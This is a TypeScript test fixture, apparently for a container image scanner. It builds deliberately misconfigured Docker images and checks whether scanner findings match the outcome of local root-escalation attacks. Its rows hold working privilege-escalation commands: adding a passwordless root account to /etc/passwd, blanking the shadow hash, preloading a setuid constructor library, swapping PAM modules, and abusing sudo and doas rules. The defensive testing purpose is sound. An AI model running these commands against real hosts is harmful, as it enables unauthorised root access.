/** Ways of USER to root, and whether they work in a started container. */
import { randomUUID } from 'node:crypto'
import { join } from 'node:path'
import { removeTemporaryFolders, temporaryFolder } from '../../helpers/bundle.ts'
import { contextOf, docker, tryDocker } from '../../helpers/docker.ts'
import { runChecks } from '../../helpers/run-checks.ts'
import { image, registry } from '../../helpers/things.ts'
import { readLayout } from '../built.ts'

export const NEEDED = [...['debian:bookworm-slim', 'golang:1.26'].map(image), registry('Debian')]

const names: string[] = []

export async function removeImages(): Promise<void> {
  if (names.length > 0) await docker(['image', 'rm', '--force', ...names])
  await removeTemporaryFolders()
}

/** A library that shows whose rights it is loaded with, and programs that ask for them. */
const BASE = `FROM golang:1.26 AS library
RUN printf '#include <unistd.h>\\nint misc_conv(void) { return 0; }\\n__attribute__((constructor)) static void f(void) { if (setuid(0) == 0) { write(1, "uid=0\\\\n", 6); _exit(0); } }\\n' > a.c \\
 && gcc -shared -fPIC -o /libpam_misc.so.0 a.c
FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y --no-install-recommends sudo opendoas && useradd -u 1000 app && useradd -u 1002 -g 0 zero
COPY --from=library /libpam_misc.so.0 /lib.so
`
export const APPEND = 'echo "r00t::0:0::/:/bin/sh" >>/etc/passwd; su r00t -c id'
const PRELOAD = 'echo /lib.so >/etc/ld.so.preload; su -c id'
const SUDO = 'echo "ALL ALL=NOPASSWD: ALL" >>/etc/sudoers; sudo -n id'

type Row = [name: string, instructions: string, user: string, attack: string, finding: string | null, isRoot: boolean]

export const ROWS: Row[] = [
  ['nothing', 'RUN true', '1000', APPEND, null, false],
  ['accounts of USER', 'RUN chown 1000 /etc/passwd', '1000', APPEND, 'error', true],
  ['accounts of everyone', 'RUN chmod 666 /etc/passwd', '1000', APPEND, 'error', true],
  ['accounts of group 0', 'RUN chmod g=u /etc/passwd', '1001', APPEND, 'warning', true],
  [
    'accounts of group 0 without su and sudo',
    'RUN chmod g=u /etc/passwd && chmod u-s /usr/bin/su /usr/bin/sudo',
    '1001',
    APPEND,
    null,
    false,
  ],
  [
    'accounts of USER with sudo alone',
    'RUN chown 1000 /etc/passwd && chmod u-s /usr/bin/su',
    '1000',
    `H=$(perl -e 'print crypt("x", q($6$abcdefgh$))'); printf 'root:%s:1000:1000::/:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n' "$H" >/etc/passwd; echo x | sudo -S -u toor id`,
    'error',
    true,
  ],
  [
    'a rule of sudo with two hosts',
    `RUN echo 'app ALL=(root) /bin/ls : ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/app`,
    '1000',
    'sudo -n id',
    'unread',
    true,
  ],
  [
    'a module of PAM that trusts a group',
    `RUN sed -i '1i auth sufficient pam_wheel.so trust group=app' /etc/pam.d/su`,
    '1000',
    'su -c id',
    'unread',
    true,
  ],
  ['accounts of another group', 'RUN chmod g=u /etc/passwd', '1000', APPEND, null, false],
  [
    'hashes',
    'RUN chown 1000 /etc/shadow',
    '1000',
    'chmod u+w /etc/shadow; sed "s/^root:[^:]*:/root::/" /etc/shadow >/tmp/s; cat /tmp/s >/etc/shadow; su -c id',
    'error',
    true,
  ],
  [
    'the directory',
    'RUN chmod g+w /etc',
    '1001',
    'echo "r00t::0:0::/:/bin/sh" | cat /etc/passwd - >/etc/p; mv -f /etc/p /etc/passwd; su r00t -c id',
    'error',
    true,
  ],
  ['the sticky directory', 'RUN chmod 1777 /etc', '1000', PRELOAD, 'error', true],
  ['preloaded libraries', 'RUN install -m 666 /dev/null /etc/ld.so.preload', '1000', PRELOAD, 'error', true],
  [
    'the cache of the loader',
    'RUN chown 1000 /etc/ld.so.cache',
    '1000',
    'mkdir /tmp/l; cp /lib.so /tmp/l/libpam_misc.so.0; echo /tmp/l >/tmp/c; /sbin/ldconfig -X -f /tmp/c -C /tmp/cache; cat /tmp/cache >/etc/ld.so.cache; su -c id',
    'error',
    true,
  ],
  [
    'a library in the cache',
    'RUN install -D -o 1000 /lib/x86_64-linux-gnu/libpam_misc.so.0 /app/lib/libpam_misc.so.0 && echo /app/lib >/etc/ld.so.conf.d/0.conf && ldconfig',
    '1000',
    'cat /lib.so >/app/lib/libpam_misc.so.0; su -c id',
    'error',
    true,
  ],
  [
    'the folders of ldconfig',
    'RUN chown 1000 /etc/ld.so.conf',
    '1000',
    'echo /app >/etc/ld.so.conf; su -c id',
    null,
    false,
  ],
  [
    'a file of PAM',
    'RUN chmod 666 /etc/pam.d/common-auth',
    '1000',
    'echo "auth sufficient pam_permit.so" >/etc/pam.d/common-auth; su -c id',
    'error',
    true,
  ],
  [
    'a module of PAM',
    'RUN chown 1000 /lib/x86_64-linux-gnu/security/pam_rootok.so',
    '1000',
    'cat /lib.so >/lib/x86_64-linux-gnu/security/pam_rootok.so; su -c id',
    'error',
    true,
  ],
  ['settings of sudo, by group 0', 'RUN chmod 660 /etc/sudoers', 'zero', SUDO, 'error', true],
  ['a rule of sudo', 'RUN echo "app ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/app', '1000', 'sudo -n id', 'error', true],
  [
    'a rule of sudo behind a comment that ends with a backslash',
    `RUN printf '# rules \\\\\\napp ALL=(ALL) NOPASSWD: ALL\\n' >/etc/sudoers.d/app`,
    '1000',
    'sudo -n id',
    'error',
    true,
  ],
  [
    'a user in upper case',
    'RUN echo "App ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/app',
    '1000',
    'sudo -n id',
    'unread',
    true,
  ],
  [
    'rules of sudo that lead to another user and then to root',
    `RUN printf 'app ALL=(zero) NOPASSWD: ALL\\nzero ALL=(ALL) NOPASSWD: ALL\\n' >/etc/sudoers.d/app`,
    '1000',
    'sudo -n -u zero sudo -n id',
    'error',
    true,
  ],
  ['a UID of doas with zeros', 'RUN echo "permit nopass 01000" >/etc/doas.conf', '1000', 'doas -n id', 'unread', true],
  ['a rule of sudo that asks', 'RUN echo "app ALL=(ALL) ALL" >/etc/sudoers.d/app', '1000', 'sudo -n id', null, false],
  ...(
    [
      ['a folder of sudo', '/usr/bin/', 'env id', 'error', true],
      ['a pattern of sudo', '/usr/*/e?v', 'env id', 'error', true],
      ['a pattern of other programs', '/usr/bin/who*', 'env id', 'info', false],
      ['a regular expression of sudo', '^/usr/bin/[d-f]nv$', '/usr/bin/env id', 'unread', true],
      ['a folder that USER can write to', '/home/jobs/', '/home/jobs/x', 'error', true],
      ['sudoedit', 'sudoedit /etc/sudoers.d/app', '', 'error', true],
      ['a pattern of words', '/usr/bin/tee /var/log/*', '', 'unread', true],
      ['a script in the working directory', '/bin/sh run.sh', 'sh run.sh', 'unread', true],
      ['a service', '/usr/sbin/service', 'service ../../bin/sh -c id', 'error', true],
      ['the words of a service', '/usr/sbin/service x restart', 'service ../../bin/sh -c id', 'info', false],
      ['the variables of a command', 'SETENV: /usr/bin/whoami', 'LD_PRELOAD=/lib.so whoami', 'error', true],
      ['a user for su', '/bin/su - app', 'su', 'info', false],
    ] as const
  ).map(
    ([name, command, attack, finding, isRoot]): Row => [
      name,
      `RUN install -d -o 1000 /home/jobs && echo 'app ALL=(root) NOPASSWD: ${command}' >/etc/sudoers.d/app`,
      '1000',
      `cd /home/jobs; printf '#!/bin/sh\\nid\\n' | tee x run.sh; chmod +x x; printf '#!/bin/sh\\necho "app ALL=NOPASSWD: ALL" >"$1"\\n' >/tmp/e; chmod +x /tmp/e; EDITOR=/tmp/e sudo -n sudoedit /etc/sudoers.d/app || echo 'app ALL=NOPASSWD: ALL' | sudo -n tee /var/log/../../etc/sudoers.d/x; sudo -n ${attack || 'id'}`,
      finding,
      isRoot,
    ],
  ),
  ['a rule of doas', 'RUN echo "permit nopass app" >/etc/doas.conf', '1000', 'doas -n id', 'error', true],
  [
    'PAM without a password',
    'RUN sed -i "1i auth sufficient pam_permit.so" /etc/pam.d/su',
    '1000',
    'su -c id',
    'error',
    true,
  ],
  ['an own preloaded library', 'RUN echo /lib.so >/etc/ld.so.preload', '1000', 'su -c id', 'warning', true],
  [
    'an own module of PAM',
    'RUN cp /lib.so /lib/x86_64-linux-gnu/security/pam_own.so && sed -i "1i auth optional pam_own.so" /etc/pam.d/su',
    '1000',
    'su -c id',
    'warning',
    true,
  ],
  [
    'sudo with PAM that asks nobody',
    'RUN sed -i "1i auth sufficient pam_permit.so" /etc/pam.d/sudo && echo "app ALL=(ALL) ALL" >/etc/sudoers.d/app',
    '1000',
    'sudo id',
    'error',
    true,
  ],
  [
    'doas with PAM that asks nobody',
    'RUN sed -i "1i auth sufficient pam_permit.so" /etc/pam.d/doas && echo "permit app" >/etc/doas.conf',
    '1000',
    'script -qc "doas id" /dev/null',
    'error',
    true,
  ],
  [
    'a shell in the search path of doas',
    'RUN echo "permit nopass app cmd sh" >/etc/doas.conf',
    '1000',
    'doas -n sh -c id',
    'error',
    true,
  ],
  [
    'a program of doas in the working directory',
    'RUN echo "permit nopass app cmd ./run" >/etc/doas.conf',
    '1000',
    'cd /tmp; printf "#!/bin/sh\\nid\\n" >run; chmod +x run; doas -n ./run',
    'error',
    true,
  ],
  [
    'a star for doas',
    'RUN echo "permit nopass app cmd /usr/bin/*" >/etc/doas.conf',
    '1000',
    'doas -n /usr/bin/id',
    'info',
    false,
  ],
  [
    'doas of another name',
    'RUN mv /usr/bin/doas /usr/bin/become && echo "permit nopass app" >/etc/doas.conf',
    '1000',
    'become -n id',
    'error',
    true,
  ],
  [
    'an own module of PAM that a forged record lists',
    'RUN M=/lib/x86_64-linux-gnu/security/pam_own.so && cp /lib.so $M && echo $M >>/var/lib/dpkg/info/libpam-modules:amd64.list && sed -i "1i auth optional pam_own.so" /etc/pam.d/su',
    '1000',
    'su -c id',
    'warning',
    true,
  ],
  [
    'PAM without a password for a login',
    'RUN sed -i "1i auth sufficient pam_permit.so" /etc/pam.d/su-l',
    '1000',
    'su - -c id',
    'error',
    true,
  ],
  [
    'settings of PAM for sudo of USER',
    'RUN chown 1000 /etc/pam.d/sudo && echo "app ALL=(ALL) ALL" >/etc/sudoers.d/app',
    '1000',
    'printf "auth sufficient pam_permit.so\\naccount sufficient pam_permit.so\\nsession optional pam_permit.so\\n" >/etc/pam.d/sudo; sudo id',
    'error',
    true,
  ],
  [
    'accounts of a group that newgrp gives',
    'RUN groupadd -g 77 staff2 && usermod -aG staff2 app && chgrp 77 /etc/passwd && chmod g+w /etc/passwd',
    '1000:1000',
    `echo 'echo "r00t::0:0::/:/bin/sh" >>/etc/passwd; su r00t -c id' | newgrp staff2`,
    'error',
    true,
  ],
  ['settings of sudo, of everyone', 'RUN chmod 666 /etc/sudoers', '1000', SUDO, null, false],
  [
    'settings of doas, by group 0',
    'RUN install -m 664 /dev/null /etc/doas.conf',
    'zero',
    'echo "permit nopass zero" >/etc/doas.conf; doas -n id',
    null,
    false,
  ],
]

/** What the checks find in the image, and whether the attack makes root of USER in its container. */
export async function verdict(instructions: string, user: string, attack: string, options: string[] = []) {
  const name = `stagegate-test/escalation:${randomUUID()}`
  const context = await contextOf(`${BASE}${instructions}\nUSER ${user}\n`)
  await docker(['buildx', 'build', '--quiet', '--provenance=false', '--load', '--tag', name, context])
  names.push(name)
  const archive = join(await temporaryFolder('escalation'), 'image.tar')
  await docker(['save', '--output', archive, name])
  const { results, findings } = runChecks(await readLayout(archive, 1), {})
  const errors = results.filter(({ id, error }) => error && id.startsWith('permissions/'))
  const broken = errors.filter(({ error }) => error?.code !== 'rules-unread')
  const run = ['run', '--rm', '--network', 'none', ...options, name]
  const { stdout } = await tryDocker([...run, 'sh', '-c', `(${attack}) 2>/dev/null </dev/null`])
  const [first] = findings.filter(
    ({ check }) => check === 'permissions/writable-settings' || check === 'permissions/root-rule',
  )
  const finding = errors.length > broken.length ? 'unread' : (first?.severity ?? null)
  return { broken, finding, isRoot: stdout.includes('uid=0') }
}
